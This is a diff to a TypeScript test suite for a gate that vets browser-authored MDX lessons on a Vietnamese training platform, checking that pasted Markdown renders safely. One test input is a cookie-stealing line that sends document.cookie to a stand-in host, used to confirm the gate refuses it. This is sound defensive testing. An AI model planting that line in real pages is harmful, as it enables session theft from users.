@@ -6,7 +6,7 @@ import os from "node:os";
 import path from "node:path";
 import { describe, test } from "node:test";
 import { compileLesson } from "~/mdx/compile.server";
-import { gateAuthoredMdx } from "~/mdx/gate.server";
+import { gateAuthored, gateAuthoredMdx } from "~/mdx/gate.server";
 
 const MARK = path.join(os.tmpdir(), `taphuan-gate-${process.pid}`);
 const g = globalThis as { __pwned?: boolean };
@@ -129,5 +129,67 @@ describe("the gate for browser-authored MDX", () => {
     assert.ok(compiled.ok, JSON.stringify(!compiled.ok && compiled.problems));
     assert.match(compiled.html, /<img src="\/course-files\/x\/anh-that.png" alt="Màn hình đăng nhập"/);
     assert.match(compiled.html, /<table>/);
+  });
+});
+
+// What trainers really paste: ordinary Markdown that MDX alone reads as JSX or JavaScript.
+const pasted: [string, string, RegExp][] = [
+  ["less than a number", "Thời hạn giải quyết <5 ngày làm việc.", /Thời hạn giải quyết &lt;5 ngày làm việc\./],
+  ["a < b in text", "Nếu a < b thì chọn a; nếu x <= y thì chọn y.", /Nếu a &lt; b thì chọn a; nếu x &lt;= y thì chọn y\./],
+  ["a placeholder in braces", "Kính gửi {họ tên}, đơn vị {tên đơn vị}, ngày {dd/mm/yyyy}.", /Kính gửi \{họ tên\}, đơn vị \{tên đơn vị\}, ngày \{dd\/mm\/yyyy\}\./],
+  ["a code block indented by four spaces", "Gõ lệnh:\n\n    ping dichvucong.gov.vn\n    if (a < b) { x++ }\n\nRồi bấm Enter.", /<pre><code>ping dichvucong.gov.vn\nif \(a &lt; b\) \{ x\+\+ \}\n<\/code><\/pre>/],
+  ["an autolink", "Xem <https://dichvucong.gov.vn/p/home/dvc-trang-chu.html> hoặc viết cho <hotro@dichvucong.gov.vn>.", /<a href="https:\/\/dichvucong.gov.vn\/p\/home\/dvc-trang-chu.html">https:\/\/dichvucong.gov.vn\/p\/home\/dvc-trang-chu.html<\/a>.*<a href="mailto:hotro@dichvucong.gov.vn">/],
+  ["an HTML comment", "<!-- Ghi chú cho người soạn: bổ sung ảnh sau -->\n\nNội dung bài.\n\nCâu <!-- ghi chú giữa dòng --> tiếp theo.", /^<p>Nội dung bài\.<\/p>\n<p>Câu  tiếp theo\.<\/p>$/],
+];
+
+describe("what trainers paste", () => {
+  for (const [name, source, html] of pasted) {
+    test(`accepts ${name}, and it renders as text`, async () => {
+      assert.deepEqual(gateAuthoredMdx(source, opts), []);
+      const { mdx } = gateAuthored(source, opts);
+      const compiled = await compileLesson(mdx, { dir: os.tmpdir(), ...opts });
+      assert.ok(compiled.ok, JSON.stringify(!compiled.ok && compiled.problems));
+      assert.match(compiled.html.trim(), html);
+    });
+  }
+
+  test("code in braces or in a comment is still refused, at the place it was typed", () => {
+    const [p] = gateAuthoredMdx("Đầu bài\n\n<!-- ghi chú -->\n\nKính gửi {họ tên}, tổng là {1+1}.", opts);
+    assert.equal(p!.line, 5);
+    assert.equal(p!.column, 28);
+    const [c] = gateAuthoredMdx("Chữ\n\n<!-- fetch('https://evil.example/?' + document.cookie) -->", opts);
+    assert.equal(c!.line, 3);
+    assert.match(c!.message, /mã lệnh/);
+  });
+
+  test("every refusal is said in Vietnamese, never in the parser's English", () => {
+    const broken = [
+      "Kính gửi {x = 1; y()}",
+      `<Callout type="note">\n\nkhông đóng`,
+      "a<b",
+      `<Callout type="note" title=>x</Callout>`,
+      "<Summary>\n\nx\n\n</Steps>",
+      "</Callout>",
+      "<!-- chưa đóng",
+      "{".repeat(40),
+    ];
+    for (const source of broken) {
+      const problems = gateAuthoredMdx(source, opts);
+      assert.ok(problems.length > 0, `${source}: accepted`);
+      for (const p of problems) {
+        assert.doesNotMatch(p.message, /acorn|Unexpected|expected|Could not|character|MDX/i, `${source}: ${p.message}`);
+        assert.match(p.message, /[ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệỉịọỏốồổỗộớờởỡợụủứừửữựỳỵỷỹ]/i, `${source}: Vietnamese`);
+      }
+    }
+  });
+
+  test("footnotes are labelled in Vietnamese", async () => {
+    const source = "Theo Nghị định[^1].\n\n[^1]: Nghị định số 45/2020/NĐ-CP.";
+    assert.deepEqual(gateAuthoredMdx(source, opts), []);
+    const compiled = await compileLesson(gateAuthored(source, opts).mdx, { dir: os.tmpdir(), ...opts });
+    assert.ok(compiled.ok);
+    assert.match(compiled.html, />Chú thích</);
+    assert.match(compiled.html, /aria-label="Quay lại chỗ dẫn chú thích 1"/);
+    assert.doesNotMatch(compiled.html, /Footnotes|Back to/);
   });
 });
